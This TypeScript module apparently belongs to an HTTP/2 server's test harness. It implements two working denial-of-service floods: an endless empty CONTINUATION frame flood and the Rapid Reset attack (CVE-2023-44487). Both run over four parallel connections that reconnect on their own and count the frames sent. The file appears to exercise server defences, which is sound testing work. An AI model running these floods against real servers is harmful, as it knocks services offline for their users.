// The frame floods flood-child.ts runs: each floods a connection until the server ends it (its
// GOAWAY or its close), then opens the next at once, until stopped, and counts the frames it
// wrote.
import {
  connectRaw,
  Flags,
  FrameType,
  frame,
  grpcRequestHeaders,
  headerBlock,
  type RawH2Connection,
} from "./h2-frames.ts";

const ADD_FLOATS = "/foo.bar.AdderService/AddFloats";

export interface FloodLoop {
  stop(): Promise<string>;
}

/** Connections a flood keeps going at once, each reconnecting on its own. */
const PARALLEL = 4;

/**
 * `step` writes a batch on one connection and returns how many frames it held. The writer waits
 * while the socket's buffer is full (as a kernel-blocked flooder would), but never reads.
 */
function reconnecting(
  host: string,
  port: number,
  step: (connection: RawH2Connection, block: Buffer) => number,
  what: string,
): FloodLoop {
  let running = true;
  let connections = 0;
  let goAways = 0;
  let frames = 0;
  const started = performance.now();
  const open = new Set<RawH2Connection>();
  const block = headerBlock(grpcRequestHeaders(`${host}:${port}`, ADD_FLOATS));
  const ended = (connection: RawH2Connection) =>
    connection.socket.destroyed || connection.goAwayCode() !== undefined;
  const loop = async () => {
    while (running) {
      let current: RawH2Connection;
      try {
        current = await connectRaw(host, port);
      } catch {
        await Bun.sleep(10);
        continue;
      }
      connections++;
      open.add(current);
      while (running && !ended(current)) {
        // A full socket: wait until it drains or the server ends the connection.
        if (current.socket.writableLength > 0) await current.drained(10);
        else {
          frames += step(current, block);
          await Bun.sleep(0);
        }
      }
      if (current.goAwayCode() !== undefined) goAways++;
      current.destroy();
      open.delete(current);
    }
  };
  const loops = Array.from({ length: PARALLEL }, loop);
  return {
    async stop() {
      running = false;
      for (const connection of open) connection.destroy();
      await Promise.all(loops);
      const seconds = (performance.now() - started) / 1000;
      return `${what}: ${connections} connection(s) over ${PARALLEL} at a time, ${goAways} ended by GOAWAY; ${frames} frames written in ${seconds.toFixed(1)} s (${Math.round(frames / seconds)}/s)`;
    },
  };
}

/** HEADERS without END_HEADERS, then empty CONTINUATION frames without end. */
export function emptyContinuationLoop(host: string, port: number): FloodLoop {
  const empty = frame(FrameType.Continuation, 0, 1);
  const batch = Buffer.concat(Array.from({ length: 1000 }, () => empty));
  const started = new WeakSet<RawH2Connection>();
  return reconnecting(
    host,
    port,
    (connection, block) => {
      let frames = 1000;
      if (!started.has(connection)) {
        connection.write(frame(FrameType.Headers, 0, 1, block));
        started.add(connection);
        frames++;
      }
      connection.write(batch);
      return frames;
    },
    "empty CONTINUATION flood",
  );
}

/** A stream opened and reset at once, over and over (CVE-2023-44487). */
export function rapidResetLoop(host: string, port: number): FloodLoop {
  let stream = 1;
  const cancel = Buffer.from([0, 0, 0, 8]);
  return reconnecting(
    host,
    port,
    (connection, block) => {
      const frames: Buffer[] = [];
      for (let i = 0; i < 100; i++) {
        frames.push(frame(FrameType.Headers, Flags.EndHeaders, stream, block));
        frames.push(frame(FrameType.RstStream, 0, stream, cancel));
        stream += 2;
        if (stream > 2 ** 31 - 2) stream = 1;
      }
      connection.write(Buffer.concat(frames));
      return frames.length;
    },
    "rapid reset",
  );
}
